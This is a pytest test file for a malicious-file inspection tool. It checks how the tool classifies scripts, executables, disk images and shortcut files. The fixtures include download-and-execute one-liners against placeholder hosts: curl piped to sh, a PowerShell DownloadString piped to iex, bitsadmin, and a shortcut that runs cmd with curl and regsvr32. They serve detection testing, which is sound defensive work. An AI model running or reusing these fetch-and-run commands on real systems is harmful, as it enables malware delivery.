"""Scripts, programs, disk images and shortcuts: named, with what they say in plain words."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.builders.files import examined, link, names_of, windows_program

from seriema.model.artifact import FileClass, State

XMLHTTP = b"var x=new ActiveXObject('MSXML2.XMLHTTP');\nx.open('GET','http://a.test/b.exe');\n"


@pytest.mark.parametrize(
    ("name", "content", "calls"),
    [
        (
            "a.js",
            XMLHTTP + b"new ActiveXObject('WScript.Shell').Run('cmd')",
            {"script.download-call", "script.run-call"},
        ),
        ("a.vbs", b'CreateObject("WScript.Shell").Run "calc"', {"script.run-call"}),
        (
            "a.bat",
            b"@echo off\r\nbitsadmin /transfer x http://a.test/b c\r\n",
            {"script.download-call", "script.run-call"},
        ),
        ("a.ps1", b"(New-Object Net.WebClient).DownloadString('http://a.test/b') | iex", {"script.download-call"}),
        ("a.sh", b"#!/bin/sh\ncurl http://a.test/b | sh\n", {"script.download-call"}),
        ("a.js", "var x = 1".encode("utf-16"), set()),
    ],
)
def test_a_script_is_named_with_its_calls(name, content, calls):
    seen = examined(content, name)
    assert calls | {"script.present"} <= names_of(seen)
    assert seen.state is State.INSPECTED


def test_an_address_in_a_script_that_fetches_is_a_download():
    (one,) = examined(XMLHTTP, "a.js").indicators
    assert (one.value, one.role) == ("http://a.test/b.exe", "download")


def test_an_encoded_script_is_not_inspected():
    seen = examined(b"#@~^DgAAAA==\\ko~sFUP.b", "a.vbe")
    assert (names_of(seen), seen.state) == ({"script.present"}, State.UNSUPPORTED)


def test_a_script_beyond_the_bound_is_a_limit():
    assert examined(b"x = 1\n" * 800_000, "a.js").state is State.LIMIT


@pytest.mark.parametrize(
    ("content", "detail"),
    [
        (windows_program(), "64-bit Windows program for x86-64"),
        (windows_program(library=True, wide=False), "32-bit Windows library for x86"),
        (b"MZ" + bytes(100), "DOS or 16-bit Windows program"),
        (b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(40), "64-bit ELF library or program for x86-64"),
        (b"\x7fELF\x01\x02\x01" + bytes(9) + b"\0\x02\0\x08" + bytes(40), "32-bit ELF program for MIPS"),
        (bytes.fromhex("cffaedfe") + bytes(28), "64-bit or universal Mach-O file"),
        (b"ITSF\x03\0\0\0", "compiled help"),
    ],
)
def test_a_program_is_named_and_its_code_is_not_read(content, detail):
    seen = examined(content, "x")
    assert [(one.name, one.detail) for one in seen.findings] == [("executable.present", detail)]
    assert seen.state is State.UNSUPPORTED


def test_a_disk_image_is_named_by_its_volume():
    image = bytearray(0x8800)
    image[0x8001:0x8006] = b"CD001"
    image[0x8028:0x8030] = b"INVOICE "
    seen = examined(bytes(image), "x.iso")
    assert [one.detail for one in seen.findings] == ["iso, volume 'INVOICE', 0 sectors"]
    assert seen.state is State.UNSUPPORTED


COMMAND = r"C:\Windows\System32\cmd.exe"
ARGUMENTS = "/c curl http://a.test/x -o x.dll && regsvr32 x.dll"


@pytest.mark.parametrize(
    "content",
    [
        link(COMMAND, ARGUMENTS),
        link(environment=COMMAND, arguments=ARGUMENTS, name="Invoice", icon="C:\\x.pdf"),
        link(COMMAND, ARGUMENTS, environment=COMMAND),
    ],
)
def test_a_shortcut_tells_what_it_runs(content):
    seen = examined(content, "Invoice.pdf.lnk")
    found = {(one.type.value, one.role, one.value) for one in seen.indicators}
    whole = ("command", "runs", f"{COMMAND} {ARGUMENTS}")
    assert found == {whole, ("url", "download", "http://a.test/x"), ("path", "saves-as", "x.dll")}
    assert {"shortcut.arguments", "shortcut.download-call"} <= names_of(seen)
    assert seen.state is State.INSPECTED


@pytest.mark.parametrize("content", [link()[:60], link()[:76]])
def test_a_torn_shortcut_is_malformed(content):
    assert examined(content.ljust(30, b"\0"), "x.lnk").state is State.MALFORMED


@pytest.mark.parametrize(
    ("name", "content", "target"),
    [
        ("a.url", b"[InternetShortcut]\r\nURL=file://192.0.2.1/s/a.exe\r\n", "file://192.0.2.1/s/a.exe"),
        ("a.desktop", b"[Desktop Entry]\nExec=sh -c x\n", "sh -c x"),
        (
            "a.webloc",
            b'<?xml version="1.0"?><plist><dict><key>URL</key><string>http://a.test</string>',
            "http://a.test",
        ),
        ("a.settingcontent-ms", b"<PCSettings><DeepLink>%windir%\\cmd.exe</DeepLink>", "%windir%\\cmd.exe"),
        ("a.rdp", b"screen mode id:i:2\r\nfull address:s:rdp.a.test\r\n", "rdp.a.test"),
    ],
)
def test_a_text_shortcut_tells_its_target(name, content, target):
    seen = examined(content, name)
    assert target in [one.detail for one in seen.findings if one.name == "shortcut.target"]
    assert seen.state is State.INSPECTED


def test_a_share_is_named():
    seen = examined(b"[InternetShortcut]\r\nURL=\\\\192.0.2.1@80\\s\\a.exe\r\n", "a.url")
    assert "shortcut.network-share" in names_of(seen)


def test_a_text_shortcut_without_a_target_is_not_inspected():
    assert examined(b"[InternetShortcut]\r\n", "a.url").state is State.UNSUPPORTED


@pytest.mark.parametrize("kind", ["lnk", "js", "url", "exe", "iso", "jpeg"])
@settings(max_examples=40, deadline=None)
@given(content=st.binary(max_size=300), cut=st.integers(0, 300))
def test_any_bytes_are_read_without_a_crash(kind, content, cut):
    whole = link(COMMAND, ARGUMENTS)[:cut] + content
    assert examined(whole, "x", kind=kind).state is not State.CRASHED
    assert examined(whole, "x", file_class=FileClass.SHORTCUT, kind=kind).state is not State.CRASHED
